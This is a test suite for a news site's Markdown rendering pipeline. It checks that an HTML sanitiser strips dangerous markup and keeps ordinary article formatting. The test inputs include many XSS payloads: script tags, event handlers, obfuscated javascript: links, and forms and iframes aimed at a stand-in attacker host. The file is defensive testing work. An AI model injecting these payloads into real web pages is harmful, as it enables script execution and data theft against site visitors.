// The article pipeline exactly as astro.config.mjs sets it up (Astro's own processor with our
// plugins), fed hostile and clumsy bodies: what comes out is the allowlist and nothing else.
import { load } from 'cheerio';
import { describe, expect, it } from 'vitest';
import config from '../../astro.config.mjs';
import { EMPTY_BODY } from '../lib/content-messages.ts';
import type { BodyTextData } from './rehype-body-text.ts';

const { markdown } = config;
// The highlighter setting is the one Astro hands every processor (false: plain <pre><code>).
const renderer = await markdown!.processor!.createRenderer({
  syntaxHighlight: markdown!.syntaxHighlight === false ? false : 'shiki',
});

async function render(body: string) {
  const { code, metadata } = await renderer.render(body, {
    fileURL: new URL('file:///content/articles/2021-08-30-uji.md'),
  });
  return { html: code, ...(metadata.frontmatter as unknown as BodyTextData) };
}

const ALLOWED_TAGS = new Set(
  'p br hr blockquote div span figure figcaption h1 h2 h3 h4 h5 h6 a abbr b strong i em u s del ins mark small sub sup q cite dfn time code kbd samp var wbr pre ul ol li dl dt dd table caption thead tbody tfoot tr th td section'.split(
    ' ',
  ),
);
const LOADING = ['src', 'srcset', 'srcdoc', 'poster', 'background', 'data', 'action', 'formaction'];

/** Everything in an HTML fragment that is not plain news markup, as readable lines. */
function unsafe(html: string): string[] {
  const $ = load(html, null, false);
  const found: string[] = [];
  $('*').each((_, el) => {
    const tag = String($(el).prop('tagName')).toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const [name, value] of Object.entries($(el).attr() ?? {})) {
      if (name.startsWith('on') || name === 'style' || name === 'ping' || LOADING.includes(name))
        found.push(`${tag}[${name}]`);
      // A title is text a reader sees on hover; any other value is a URL or a name.
      if (name !== 'title' && /javascript:|vbscript:|data:|alert|penyerang/i.test(value))
        found.push(`${tag}[${name}=${value}]`);
    }
  });
  return found;
}

describe('the article pipeline removes what runs, loads, submits or styles', () => {
  const vectors: [string, string][] = [
    ['script', 'Teks.\n\n<script>alert(1)</script>\n\nTeks <script>alert(2)</script> lagi.'],
    ['onerror', '<img src="x" onerror="alert(1)">'],
    ['onload', '<body onload="alert(1)"><p onload="alert(2)">Teks</p>'],
    ['ontoggle', '<details open ontoggle="alert(1)"><summary>Buka</summary>Isi</details>'],
    ['onfocus autofocus', '<input autofocus onfocus="alert(1)"><p onmouseover="alert(2)">Teks</p>'],
    ['javascript: link', '[klik](javascript:alert(1)) <a href="javascript:alert(2)">klik</a>'],
    ['javascript: autolink', '<javascript:alert(1)>'],
    ['javascript: reference', '[klik][x]\n\n[x]: javascript:alert(1)'],
    [
      'entity-encoded javascript:',
      '<a href="&#106;avascript:alert(1)">a</a> <a href="&#x6A;avascript&colon;alert(2)">b</a> [c](&#106;avascript:alert(3))',
    ],
    [
      'javascript: with case, tabs and spaces',
      '<a href="JaVaScRiPt:alert(1)">a</a> <a href="java&#x09;script:alert(2)">b</a> <a href=" javascript:alert(3)">c</a> <a href="java\nscript:alert(4)">d</a>',
    ],
    [
      'data: and vbscript: URLs',
      '<a href="data:text/html,<script>alert(1)</script>">a</a> [b](data:text/html;base64,PHNjcmlwdD4=) <a href="vbscript:msgbox(1)">c</a>',
    ],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['iframe src', '<iframe src="https://penyerang.example/"></iframe>'],
    ['base href', '<base href="https://penyerang.example/">'],
    [
      'form posting elsewhere',
      '<form action="https://penyerang.example/" method="post"><input name="nip"><button formaction="https://penyerang.example/">Kirim</button></form>',
    ],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://penyerang.example/">'],
    ['link', '<link rel="stylesheet" href="https://penyerang.example/gaya.css">'],
    ['style element', '<style>@import url(https://penyerang.example/a.css);</style>'],
    ['style attribute', '<p style="background:url(https://penyerang.example/a.png)">Teks</p>'],
    ['object', '<object data="https://penyerang.example/a.swf">cadangan</object>'],
    ['embed', '<embed src="https://penyerang.example/a.swf">'],
    ['svg with script', '<svg><script>alert(1)</script><a href="javascript:alert(2)">x</a></svg>'],
    ['math', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ['video poster', '<video poster="https://penyerang.example/p.png" src="x.mp4"></video>'],
    [
      'table background',
      '<table background="https://penyerang.example/t.png"><tr><td>1</td></tr></table>',
    ],
    ['ping', '<a href="https://contoh.example/" ping="https://penyerang.example/">tautan</a>'],
    [
      'picture srcset',
      '<picture><source srcset="https://penyerang.example/a.png"><img srcset="https://penyerang.example/b.png"></picture>',
    ],
    ['template', '<template><img src="x" onerror="alert(1)"></template>'],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ];

  it.each(vectors)('%s', async (_, body) => {
    const { html } = await render(body);
    expect(unsafe(html)).toEqual([]);
  });

  it('leaves no link without an address: what the sanitiser disarmed is plain text', async () => {
    const { html } = await render(
      'Awal [klik](javascript:alert(1)) dan <a href="data:text/html,x">data</a> <a name="x">jangkar</a> akhir.',
    );
    expect(html).toBe('<p>Awal klik dan data jangkar akhir.</p>');
  });

  it('keeps links to other sites, mailto and same-site links as links', async () => {
    const { html } = await render(
      '[sumber](https://menpan.go.id/x) [surel](mailto:humas@contoh.go.id) [glosarium](/glosarium/)',
    );
    const $ = load(html, null, false);
    expect(
      $('a')
        .map((_, a) => $(a).attr('href'))
        .get(),
    ).toEqual(['https://menpan.go.id/x', 'mailto:humas@contoh.go.id', '/glosarium/']);
  });
});

describe('images in a body load nothing', () => {
  it('a picture on the web becomes a plain link to it, named by its alt text or address', async () => {
    const { html } = await render(
      '![Menteri memberi sambutan](https://contoh.example/foto.jpg)\n\n<img src="//contoh.example/b.png">',
    );
    const $ = load(html, null, false);
    expect($('img').length).toBe(0);
    expect(
      $('a')
        .map((_, a) => `${$(a).text()} → ${$(a).attr('href')}`)
        .get(),
    ).toEqual([
      'Menteri memberi sambutan → https://contoh.example/foto.jpg',
      '//contoh.example/b.png → //contoh.example/b.png',
    ]);
  });

  it('any other picture becomes its alt text, and a linked picture stays one link', async () => {
    const { html } = await render(
      '<img src="data:image/png;base64,AAAA" alt="Logo"> [![Foto](https://contoh.example/f.jpg)](https://contoh.example/berita)',
    );
    const $ = load(html, null, false);
    expect($('img').length).toBe(0);
    expect($('a').length).toBe(1);
    expect($.root().text()).toContain('Logo');
    expect($('a').text()).toBe('Foto');
  });
});

describe('what the archive needs still renders', () => {
  it('paragraphs, emphasis, quotes, lists, tables and headings', async () => {
    const { html } = await render(
      '## Judul\n\nTeks *miring* dan **tebal**.\n\n> Kutipan\n\n- satu\n- dua\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    const $ = load(html, null, false);
    expect($('h2#judul').text()).toBe('Judul');
    expect($('em').text()).toBe('miring');
    expect($('strong').text()).toBe('tebal');
    expect($('blockquote p').text()).toBe('Kutipan');
    expect($('li').length).toBe(2);
    expect(
      $('td')
        .map((_, td) => $(td).text())
        .get(),
    ).toEqual(['1', '2']);
  });

  it('an aligned table, without the deprecated align attribute', async () => {
    const { html } = await render('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |');
    const $ = load(html, null, false);
    expect($('th').length).toBe(3);
    expect($('td').text()).toBe('123');
    expect($('[align]').length).toBe(0);
  });

  it('glossary acronyms as <abbr> linked to their entry, and reading time', async () => {
    const { html } = await render('Pegawai ASN bekerja.');
    const $ = load(html, null, false);
    expect($('a.term[href="/glosarium/#asn"] abbr[title]').text()).toBe('ASN');
    const { metadata } = await renderer.render('satu dua tiga', {});
    expect(metadata.frontmatter).toMatchObject({ minutesRead: 1, wordCount: 3 });
  });

  it('footnotes, their links intact', async () => {
    const { html } = await render('Teks[^1].\n\n[^1]: Catatan.');
    const $ = load(html, null, false);
    expect($($('sup a').attr('href')!).text()).toContain('Catatan.');
    expect($($('[data-footnote-backref]').attr('href')!).text()).toBe('1');
  });

  it('a fenced code block is plain <pre><code>, with no style attribute', async () => {
    const { html } = await render('Teks.\n\n```\nkode contoh\n```');
    expect(html).toContain('<pre><code>kode contoh\n</code></pre>');
    expect(html).not.toContain('style=');
  });
});

describe('what the page would lose is reported, for the build to refuse', () => {
  it('an unclosed <!-- : the words it swallows, first ones quoted', async () => {
    const { bodyProblems, bodyText } = await render(
      'Paragraf pertama.\n\n<!-- iklan\n\nRapat dihadiri pejabat kedua negara.',
    );
    expect(bodyText).toBe('Paragraf pertama.');
    expect(bodyProblems).toEqual([
      expect.stringMatching(
        /^6 kata dari teks Markdown tidak tampil di halaman, mulai dari “iklan Rapat dihadiri pejabat kedua negara” — periksa komentar <!--/,
      ),
    ]);
  });

  it('raw HTML swallowing the rest of the text', async () => {
    const { bodyProblems } = await render('Satu.\n\n<style>\np { color: red }\n\nDua tiga.');
    expect(bodyProblems.join('\n')).toContain('mulai dari “p color red Dua tiga”');
  });

  it('a code fence never closed, by its line, and a fence label the page hides', async () => {
    expect((await render('Satu.\n\n```\nDua.\n\nTiga.')).bodyProblems).toEqual([
      'baris ke-3 teks artikel, “```”, membuka blok kode yang tidak pernah ditutup, sehingga seluruh sisa teks tampil sebagai kode — hapus tanda ``` itu, atau tutup blok kodenya dengan ``` di baris sendiri',
    ]);
    const labelled = await render('```Menteri berkata\nkode\n```');
    expect(labelled.bodyProblems.join('\n')).toContain('mulai dari “Menteri berkata”');
  });

  it('an empty body, in the words the check before the build uses', async () => {
    expect((await render('\n  \n')).bodyProblems).toEqual([EMPTY_BODY]);
    expect((await render('![foto](https://x.id/a.jpg)')).bodyProblems).toEqual([]);
  });

  it('nothing for a sound body, hostile markup that was removed included', async () => {
    const { bodyProblems, bodyText } = await render(
      'Satu <!-- catatan --> dua.\n\n<script>alert(1)</script>\n\n<iframe srcdoc="x">cadangan</iframe>\n\n```\nkode\n```\n\n> Kutipan [tautan](https://x.id) ASN.',
    );
    expect(bodyProblems).toEqual([]);
    expect(bodyText).toBe('Satu dua.\n\nkode\n\nKutipan tautan ASN.');
  });
});
